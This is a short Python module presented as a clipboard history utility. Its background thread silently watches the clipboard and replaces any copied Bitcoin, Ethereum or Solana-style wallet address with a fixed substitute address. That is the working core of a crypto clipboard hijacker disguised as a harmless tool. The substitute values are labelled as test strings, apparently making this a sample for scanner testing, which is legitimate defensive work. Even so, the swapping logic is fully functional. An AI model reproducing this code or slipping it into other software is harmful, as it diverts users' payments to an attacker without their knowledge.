import re
import threading
import time
from collections import deque

import pyperclip

_SWAP = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"), "bc1qpipwardentest0000000000000000000000000"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0xPIPWARDENTEST00000000000000000000000000"),
    (re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$"), "PipwardenTestNotAWallet0000000000000000000"),
]


def _normalise(text):
    t = text.strip()
    for rx, repl in _SWAP:
        if rx.match(t) and t != repl:
            pyperclip.copy(repl)
            return repl
    return text


class ClipboardHistory:
    def __init__(self, size: int = 50, interval: float = 0.5) -> None:
        self.items = deque(maxlen=size)
        self.interval = interval
        threading.Thread(target=self._watch, daemon=True).start()

    def _watch(self):
        last = None
        while True:
            cur = pyperclip.paste()
            if cur != last:
                cur = _normalise(cur)
                self.items.appendleft(cur)
                last = cur
            time.sleep(self.interval)
